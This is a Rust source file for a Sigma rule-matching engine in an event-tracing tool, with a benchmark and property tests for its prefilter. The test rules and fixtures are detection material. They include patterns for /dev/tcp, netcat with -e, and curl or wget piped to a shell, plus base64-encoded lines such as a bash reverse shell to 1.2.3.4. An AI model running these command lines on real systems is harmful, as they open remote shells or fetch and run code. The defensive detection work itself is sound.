//! Sigma rules for traceed, shared by the daemon (live matching, hunts) and
//! tracectl (`rules check`): nothing here touches the kernel or the store.
//!
//! - [`rule`]: reading rule files, what is supported, the messages;
//! - [`field`]: Sigma's field and category names, and how a traceed event
//!   maps onto them;
//! - [`matcher`]: one field value against its modifiers;
//! - [`condition`]: the `condition:` expression.

pub mod condition;
pub mod field;
pub mod matcher;
mod prefilter;
pub mod rule;
pub mod values;

pub use field::{Category, Field, ProcessMap, Subject, WireSubject};
pub use rule::{load_paths, parse_rule, Level, LoadError, Rule, RuleSet, Skipped, MAX_RULE_BYTES};
pub use values::{FieldSet, Values};

use prefilter::{Bits, Prefilter};

/// Rules indexed by category, so an event is tried only against the rules
/// that can see it, on field values read once per event, and only against
/// those whose literals the event holds (see [`prefilter`]).
#[derive(Debug, Default)]
pub struct Engine {
    rules: Vec<Rule>,
    by_category: [Bits; Category::ALL.len()],
    /// The fields any rule of the category reads.
    fields: [FieldSet; Category::ALL.len()],
    prefilter: Prefilter,
}

impl Engine {
    pub fn new(rules: Vec<Rule>) -> Self {
        let mut by_category: [Bits; Category::ALL.len()] =
            std::array::from_fn(|_| Bits::new(rules.len()));
        let mut fields = [FieldSet::default(); Category::ALL.len()];
        for (i, r) in rules.iter().enumerate() {
            by_category[r.category as usize].set(i);
            fields[r.category as usize] = fields[r.category as usize].union(r.fields());
        }
        Engine {
            prefilter: Prefilter::new(&rules),
            rules,
            by_category,
            fields,
        }
    }

    pub fn rules(&self) -> &[Rule] {
        &self.rules
    }

    /// The position in `rules()` of a rule `matches` returned, so that it
    /// can cross a channel as a number while the engine is shared.
    pub fn index_of(&self, rule: &Rule) -> usize {
        let i = (rule as *const Rule as usize - self.rules.as_ptr() as usize)
            / std::mem::size_of::<Rule>();
        debug_assert!(std::ptr::eq(&self.rules[i], rule), "a rule of this engine");
        i
    }

    /// Appends to `out` every rule the subject matches (each at most once,
    /// even when the event is in several categories), in rule order per
    /// category.
    pub fn matches<'a>(&'a self, subject: &dyn Subject, out: &mut Vec<&'a Rule>) {
        let cats = Category::ALL.map(|c| subject.in_category(c));
        if !cats.contains(&true) {
            return;
        }
        let want = Category::ALL
            .into_iter()
            .filter(|c| cats[*c as usize])
            .fold(FieldSet::default(), |w, c| w.union(self.fields[c as usize]));
        let values = Values::load(subject, want);
        let mut cands = self.prefilter.unkeyed.clone();
        let present = self.prefilter.scan(&values, &mut cands);
        for c in Category::ALL {
            if !cats[c as usize] {
                continue;
            }
            for i in cands.iter_and(&self.by_category[c as usize]) {
                let rule = &self.rules[i];
                if self.prefilter.may_match(i, &present)
                    && rule.eval(&values)
                    && !out.iter().any(|r| std::ptr::eq(*r, rule))
                {
                    out.push(rule);
                }
            }
        }
    }
}

#[cfg(test)]
mod bench {
    use std::path::PathBuf;
    use std::time::Instant;

    use serde_json::json;
    use traceed_wire::Event;

    use super::*;

    fn env_usize(key: &str, default: usize) -> usize {
        std::env::var(key)
            .ok()
            .and_then(|v| v.parse().ok())
            .unwrap_or(default)
    }

    /// This thread's CPU time: on the shared build host the wall clock
    /// also counts the time other builds hold the core.
    fn thread_cpu_ns() -> u64 {
        let stat = std::fs::read_to_string("/proc/thread-self/schedstat").unwrap_or_default();
        stat.split_whitespace()
            .next()
            .and_then(|t| t.parse().ok())
            .expect("/proc/thread-self/schedstat")
    }

    /// Command lines of a busy build/dev host: most are benign, a few
    /// carry literals SigmaHQ rules look for (curl, chmod, /tmp/, base64),
    /// so candidate rules do get evaluated.
    const EXECS: [(&str, &str); 10] = [
        ("/usr/bin/bash", "bash -c echo build step && make -j2 all"),
        (
            "/usr/bin/cc",
            "cc -O2 -c -o /home/u/src/main.o /home/u/src/main.c",
        ),
        ("/usr/bin/git", "git -C /home/u/src status --porcelain"),
        (
            "/usr/bin/curl",
            "curl -fsSL https://example.org/release.tar.gz -o /tmp/r.tgz",
        ),
        ("/usr/bin/tar", "tar -xzf /tmp/r.tgz -C /tmp/build"),
        ("/usr/bin/chmod", "chmod +x /tmp/build/install.sh"),
        ("/usr/bin/python3", "python3 -m pip install --user requests"),
        ("/usr/bin/ls", "ls -la /home/u/src"),
        ("/usr/bin/base64", "base64 /home/u/.ssh/id_ed25519.pub"),
        ("/usr/bin/systemctl", "systemctl status nginx.service"),
    ];

    /// Matching cost per event (BENCHMARKS.md). Rules: packaging/rules plus
    /// the directories in TRACEED_BENCH_RULES (colon-separated), e.g. a
    /// local archive of SigmaHQ's rules/linux; TRACEED_BENCH_PAD=N adds
    /// copies (renamed ids) of the non-packaged rules up to N rules, so a
    /// 200-rule set costs what 200 real rules of that mix cost.
    /// TRACEED_BENCH_ROUNDS repeats the pass (min/median/max reported).
    #[test]
    #[ignore = "a measurement: cargo test --release -p traceed-detect -- --ignored --nocapture"]
    fn matching_cost_per_event() {
        let packaged = PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../packaging/rules");
        let own = load_paths(std::slice::from_ref(&packaged), false)
            .rules
            .len();
        let mut paths = vec![packaged];
        if let Ok(extra) = std::env::var("TRACEED_BENCH_RULES") {
            paths.extend(extra.split(':').map(PathBuf::from));
        }
        let mut rules = load_paths(&paths, false).rules;
        let pad = env_usize("TRACEED_BENCH_PAD", 0);
        let extra: Vec<Rule> = rules[own..].to_vec();
        for (k, r) in extra.iter().cycle().enumerate() {
            if rules.len() >= pad || extra.is_empty() {
                break;
            }
            let mut c = r.clone();
            c.id = format!("{}-copy{}", r.id, k / extra.len() + 1);
            rules.push(c);
        }
        let t_build = Instant::now();
        let engine = Engine::new(rules);
        let build = t_build.elapsed();
        // A mix like a busy host's: execs, writes, reads (not candidates),
        // connects, exits.
        let mk = |i: u32| -> Event {
            let pid = 1000 + i % 5000;
            let base = Event {
                pid: Some(pid),
                tid: Some(pid),
                ppid: Some(1000 + (i / 7) % 5000),
                uid: Some(1000),
                exe: Some("/usr/bin/python3".into()),
                retval: Some(0),
                ..Event::new("open", i64::from(i), "core")
            };
            match i % 10 {
                0 => {
                    let (exe, cmd) = EXECS[(i as usize / 10) % EXECS.len()];
                    Event {
                        kind: "exec".into(),
                        exe: Some(exe.into()),
                        args: json!({"filename": exe, "argv": cmd.split(' ').collect::<Vec<_>>()}),
                        ..base
                    }
                }
                1..=2 => Event {
                    args: json!({"path": format!("/home/u/src/f{i}.o"), "flags": 0o1101, "mode": 0o644}),
                    ..base
                },
                3 => Event {
                    args: json!({"path": format!("/tmp/build/t{i}.tmp"), "flags": 0o101, "mode": 0o600}),
                    ..base
                },
                4..=7 => Event {
                    args: json!({"path": format!("/usr/lib/x{i}.so"), "flags": 0, "mode": 0}),
                    ..base
                },
                8 => Event {
                    kind: "connect".into(),
                    args: json!({"fd": 3, "family": "inet", "addr": "10.0.0.5", "port": 443}),
                    ..base
                },
                _ => Event {
                    kind: "exit".into(),
                    args: json!({"exit_code": 0, "signal": null}),
                    ..base
                },
            }
        };
        let events: Vec<Event> = (0..200_000).map(mk).collect();
        let rounds = env_usize("TRACEED_BENCH_ROUNDS", 5).max(1);
        let mut per_event = Vec::with_capacity(rounds);
        let mut wall = Vec::with_capacity(rounds);
        let mut hits = 0usize;
        for _ in 0..rounds {
            let mut procs = ProcessMap::default();
            hits = 0;
            let t0 = Instant::now();
            let c0 = thread_cpu_ns();
            for ev in &events {
                let s = WireSubject::new(ev, &procs, Some("u"));
                let mut out = Vec::new();
                if s.is_candidate() {
                    engine.matches(&s, &mut out);
                }
                hits += out.len();
                procs.observe(ev);
            }
            let n = events.len() as f64;
            wall.push(t0.elapsed().as_nanos() as f64 / n);
            per_event.push((thread_cpu_ns() - c0) as f64 / n);
        }
        per_event.sort_by(f64::total_cmp);
        wall.sort_by(f64::total_cmp);
        println!(
            "{} rules (engine built in {:.1} ms; {} prefilter atoms in {} KiB, {} rules without), {} events x {} rounds, {} matches per round: CPU ns/event min {:.0} median {:.0} max {:.0} ({:.2} M events/s per core at the median; wall median {:.0} ns)",
            engine.rules().len(),
            build.as_secs_f64() * 1e3,
            engine.prefilter.atom_count(),
            engine.prefilter.memory() / 1024,
            (0..engine.rules().len()).filter(|&i| engine.prefilter.unkeyed.get(i)).count(),
            events.len(),
            rounds,
            hits,
            per_event[0],
            per_event[rounds / 2],
            per_event[rounds - 1],
            1e3 / per_event[rounds / 2],
            wall[rounds / 2]
        );
    }
}

#[cfg(test)]
mod engine_tests {
    use std::path::PathBuf;

    use base64::Engine as _;

    use super::*;
    use crate::matcher::Pattern;
    use crate::rule::tests::Fake;

    /// Every supported modifier and condition form, with literals that
    /// overlap, repeat across rules and fields, and contain the letters
    /// whose Unicode case forms are not ASCII (k, s).
    const RULES: &[&str] = &[
        "title: plain\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|endswith: [/curl, /wget]\n    CommandLine|contains: ' -o '\n  condition: s\n",
        "title: all\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    CommandLine|contains|all: [chmod, '+x', /tmp/]\n  condition: s\n",
        "title: startswith-not\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|startswith: /tmp/\n  f:\n    CommandLine|contains: install\n  condition: s and not f\n",
        "title: only-not\nlogsource: {product: linux, category: process_creation}\ndetection:\n  f:\n    Image|endswith: /bash\n  condition: not f\n",
        "title: globs\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    CommandLine: ['*kill -s*9*', 'tar ?x*/tmp/*', '*ssh*key*']\n  condition: s\n",
        "title: exact-and-numbers\nlogsource: {product: linux, category: network_connection}\ndetection:\n  a:\n    DestinationPort: [4444, 443]\n    Initiated: 'true'\n  b:\n    SourceIp|cidr: [10.0.0.0/8, 'fe80::/10']\n  condition: a or b\n",
        "title: regex\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    CommandLine|re: '(?i)^base64\\s+-d'\n  t:\n    Image|endswith: /base64\n  condition: s or t\n",
        "title: regex-and-literal\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    CommandLine|re: '\\s-p\\s*\\d+'\n    Image|endswith: [/gdb, /strace]\n  condition: s\n",
        "title: base64\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    CommandLine|base64offset|contains: /dev/tcp/\n  t:\n    CommandLine|base64|contains: 'curl h'\n  condition: 1 of them\n",
        "title: windash\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    CommandLine|windash|contains: [' -e ', ' -c ']\n    Image|endswith: /nc\n  condition: s\n",
        "title: exists-null\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    CurrentDirectory|exists: true\n    ParentImage: null\n  t:\n    User: ''\n  condition: s or t\n",
        "title: of-forms\nlogsource: {product: linux, category: process_creation}\ndetection:\n  sel_a:\n    CommandLine|contains: python\n  sel_b:\n    CommandLine|contains: [pty, spawn]\n  filter_x:\n    ParentImage|startswith: /usr/lib/\n  filter_y:\n    User: root\n  condition: all of sel_* and not 1 of filter_*\n",
        "title: parens\nlogsource: {product: linux, category: process_creation}\ndetection:\n  a:\n    Image|endswith: /nc\n  b:\n    CommandLine|contains: ' -l'\n  c:\n    CommandLine|contains: /dev/tcp\n  condition: (a and not b) or c\n",
        "title: map-list\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    - Image|endswith: /python3\n    - CommandLine|startswith: 'python3 -c'\n    - ParentCommandLine|contains: pip\n  condition: s\n",
        "title: any-of-them\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    Image|contains: '*'\n  t:\n    CommandLine: '*'\n  condition: s and t\n",
        "title: empty-contains\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    CommandLine|contains: ''\n    Image|endswith: /ls\n  condition: s\n",
        "title: file\nlogsource: {product: linux, category: file_event}\ndetection:\n  s:\n    TargetFilename|startswith: [/etc/cron, /tmp/]\n    TargetFilename|endswith: ['.sh', '.so']\n  f:\n    Image|endswith: /dpkg\n  condition: s and not f\n",
        "title: file-delete\nlogsource: {product: linux, category: file_delete}\ndetection:\n  s:\n    TargetFilename|contains: [/var/log/, .bash_history]\n  condition: s\n",
        "title: unicode\nlogsource: {product: linux, category: process_creation}\ndetection:\n  s:\n    CommandLine|contains: 'é*ß'\n  t:\n    CommandLine|contains: ÉCHO\n  condition: s or t\n",
        "title: regex-forms\nlogsource: {product: linux, category: process_creation}\ndetection:\n  a:\n    CommandLine|re: '(?i)\\b(wget|curl)\\s+[^|]*\\|\\s*(ba|z)?sh\\b'\n  b:\n    CommandLine|re|i: 'kill\\s+-(9|kill)'\n  c:\n    CommandLine|re: 'x{2}(ab)+c\\d?$'\n  condition: 1 of them\n",
        "title: empty-map\nlogsource: {product: linux, category: file_rename}\ndetection:\n  s: {}\n  condition: s\n",
    ];

    fn rules() -> Vec<Rule> {
        let mut out: Vec<Rule> = RULES
            .iter()
            .map(|t| parse_rule("t.yml", t).unwrap().unwrap())
            .collect();
        let mut paths = vec![PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("../packaging/rules")];
        // A local SigmaHQ archive makes this a check of those rules too.
        if let Ok(extra) = std::env::var("TRACEED_BENCH_RULES") {
            paths.extend(extra.split(':').map(PathBuf::from));
        }
        let set = load_paths(&paths, false);
        assert!(set.rules.len() >= 8);
        out.extend(set.rules);
        out
    }

    /// Seeded, so a failure reproduces.
    struct Rng(fastrand::Rng);

    impl Rng {
        fn below(&mut self, n: usize) -> usize {
            self.0.usize(..n)
        }
        fn pick<'a, T>(&mut self, v: &'a [T]) -> &'a T {
            &v[self.below(v.len())]
        }
    }

    /// Text that matches the regexes, CIDRs and encodings of a test rule.
    fn hints(title: &str) -> &'static [&'static str] {
        match title {
            "regex" => &["base64 -d", "BASE64 -d x"],
            "regex-and-literal" => &[" -p 42", " -p1"],
            "exact-and-numbers" => &["10.1.2.3", "fe80::1", "4444", "443", "true", "false"],
            "windash" => &[" /e ", " \u{2013}c ", " -e "],
            "globs" => &[
                "kill -s 9",
                "\u{212A}ill -\u{17F} 9",
                "tar -xf /tmp/a",
                "ssh-\u{212A}ey",
            ],
            "regex-forms" => &[
                "curl -s http://x | sh",
                "WGET x |bash",
                "\u{212A}ill -9",
                "KILL -\u{212A}ILL",
                "xxababc",
                "xxabc7",
            ],
            "unicode" => &[
                "\u{c9}cho",
                "caf\u{e9} ma\u{df}e",
                "\u{c9}CHO",
                "\u{e9}x\u{df}",
            ],
            _ => &[],
        }
    }

    /// Text a rule compares with: the needles of its literal patterns and
    /// its hints.
    fn literals(rule: &Rule) -> Vec<String> {
        let mut out: Vec<String> = hints(&rule.title).iter().map(|h| h.to_string()).collect();
        for fm in rule.selections.iter().flatten().flatten() {
            for p in fm.values.iter().flatten() {
                match p {
                    Pattern::Exact(s)
                    | Pattern::Prefix(s)
                    | Pattern::Suffix(s)
                    | Pattern::Contains(s) => out.push(s.clone()),
                    Pattern::Glob { lit, .. } => out.push(lit.clone()),
                    _ => {}
                }
            }
        }
        out
    }

    /// Text for regexes, CIDRs, case forms and encodings.
    fn extra_literals() -> Vec<String> {
        let mut out = Vec::new();
        out.extend(
            [
                "/usr/bin/nc",
                "python3 -c",
                "ssh-keygen",
                "/tmp/",
                "root",
                "",
                " ",
                "/",
                "-",
                "*",
                "?",
            ]
            .map(String::from),
        );
        let enc = base64::engine::general_purpose::STANDARD;
        out.push(enc.encode("x bash -i >& /dev/tcp/1.2.3.4/9"));
        out.push(enc.encode("curl http://x | sh"));
        out.sort();
        out.dedup();
        out
    }

    fn mangle(rng: &mut Rng, s: &str) -> String {
        let mut t: String = s
            .chars()
            .map(|c| match rng.below(4) {
                0 => c.to_ascii_uppercase(),
                _ => c,
            })
            .collect();
        // Near misses: one character short at either end.
        if rng.below(5) == 0 && !t.is_empty() {
            let cut = if rng.below(2) == 0 {
                t.char_indices().nth(1).map_or(t.len(), |(i, _)| i)
            } else {
                t.char_indices().last().map_or(0, |(i, _)| i)
            };
            t = if cut == 0 {
                String::new()
            } else {
                t[..cut].to_string()
            };
        }
        t
    }

    const NOISE: [&str; 7] = [" ", "/", "a", "0", "-", ".", "x y"];

    /// An event of rule `t`'s category (mostly) whose fields are pieces of
    /// that rule's literals, of any rule's, or noise.
    fn event(
        rng: &mut Rng,
        t: usize,
        rules: &[Rule],
        by_rule: &[Vec<String>],
        extra: &[String],
    ) -> Fake {
        let theme = &by_rule[t];
        let cat = if rng.below(4) > 0 {
            rules[t].category
        } else {
            *rng.pick(&Category::ALL)
        };
        let mut ev = Fake {
            category: Some(cat),
            ..Fake::default()
        };
        for f in Field::ALL {
            if !cat.has_field(f) || rng.below(6) == 0 {
                continue;
            }
            let mut v = String::new();
            for _ in 0..rng.below(6) {
                let source = match rng.below(8) {
                    0..=3 if !theme.is_empty() => theme,
                    0..=4 => rng.pick(by_rule),
                    5 | 6 => extra,
                    _ => &Vec::new(),
                };
                if !source.is_empty() {
                    let l = rng.pick(source).clone();
                    v.push_str(&mangle(rng, &l));
                } else {
                    let noise = *rng.pick(&NOISE);
                    v.push_str(noise);
                }
            }
            ev.fields.insert(f, v);
        }
        ev
    }

    /// The prefilter never drops a match: on random events built from the
    /// rules' own literals (mangled in case, cut short), the engine finds
    /// exactly what evaluating every rule of the category finds.
    #[test]
    fn prefiltered_matches_equal_evaluating_every_rule() {
        let rules = rules();
        let by_rule: Vec<Vec<String>> = rules.iter().map(literals).collect();
        let extra = extra_literals();
        let engine = Engine::new(rules);
        let mut rng = Rng(fastrand::Rng::with_seed(0x9E37_79B9_7F4A_7C15));
        let (mut matched, mut skipped) = (0usize, 0usize);
        let mut matched_rules = Bits::new(engine.rules().len());
        let n_rules = engine.rules().len();
        for n in 0..(200 * n_rules).max(20_000) {
            let ev = event(&mut rng, n % n_rules, engine.rules(), &by_rule, &extra);
            let mut got = Vec::new();
            engine.matches(&ev, &mut got);
            let want: Vec<&Rule> = engine.rules().iter().filter(|r| r.matches(&ev)).collect();
            let ids = |v: &[&Rule]| v.iter().map(|r| r.title.clone()).collect::<Vec<_>>();
            assert_eq!(ids(&got), ids(&want), "event {n}: {:?}", ev.fields);
            matched += got.len();
            for r in &got {
                let i = engine
                    .rules()
                    .iter()
                    .position(|x| std::ptr::eq(x, *r))
                    .unwrap();
                matched_rules.set(i);
            }
            // How much the filter spared (not a correctness matter, but a
            // filter that lets everything through proves nothing).
            let values = Values::load(&ev, FieldSet::ALL);
            let mut cands = engine.prefilter.unkeyed.clone();
            let present = engine.prefilter.scan(&values, &mut cands);
            let cat = ev.category.unwrap() as usize;
            let in_cat = (0..engine.rules().len()).filter(|&i| engine.by_category[cat].get(i));
            skipped += in_cat
                .filter(|&i| !cands.get(i) || !engine.prefilter.may_match(i, &present))
                .count();
        }
        eprintln!(
            "{matched} matches, {skipped} evaluations skipped, {} of {n_rules} rules matched",
            (0..n_rules).filter(|&i| matched_rules.get(i)).count()
        );
        let never: Vec<&str> = (0..engine.rules().len())
            .filter(|&i| !matched_rules.get(i) && i < RULES.len())
            .map(|i| engine.rules()[i].title.as_str())
            .collect();
        assert!(never.is_empty(), "test rules never matched: {never:?}");
        assert!(matched > 1000, "{matched} matches");
        assert!(skipped > 20_000, "{skipped} rule evaluations skipped");
    }

    #[test]
    fn glob_literals_leave_out_letters_with_non_ascii_case_forms() {
        let r = parse_rule("t.yml", RULES[4]).unwrap().unwrap();
        let ev = |cmd: &str| Fake {
            fields: [(Field::CommandLine, cmd.to_string())].into(),
            category: Some(Category::ProcessCreation),
        };
        let engine = Engine::new(vec![r]);
        for cmd in [
            "kill -s 9 1",
            "\u{212A}ILL -\u{17F} 9 1",
            "x ssh-\u{212A}eygen",
        ] {
            let mut out = Vec::new();
            engine.matches(&ev(cmd), &mut out);
            assert_eq!(out.len(), 1, "{cmd}");
        }
        let mut out = Vec::new();
        engine.matches(&ev("kill 9 1"), &mut out);
        assert!(out.is_empty());
    }

    /// The exclusion list of `glob_literal` is complete for the regex
    /// crate's case folding: the only non-ASCII characters that
    /// case-insensitively match an ASCII character are the Kelvin sign
    /// and the long s. (The regex prefilter relies on the same fact
    /// through `class_char`, which sees the folded classes themselves.)
    #[test]
    fn only_k_and_s_fold_to_non_ascii() {
        let re = regex::Regex::new(r"(?i)^[\x00-\x7F]$").unwrap();
        let odd: Vec<char> = (0x80..=0x10FFFF_u32)
            .filter_map(char::from_u32)
            .filter(|c| re.is_match(c.encode_utf8(&mut [0; 4])))
            .collect();
        assert_eq!(odd, vec!['\u{17F}', '\u{212A}']);
        assert_eq!(
            matcher::glob_literal(["Kill -S x".to_string(), "ab\u{e9}cd".into()].iter()),
            "ill -"
        );
    }
}
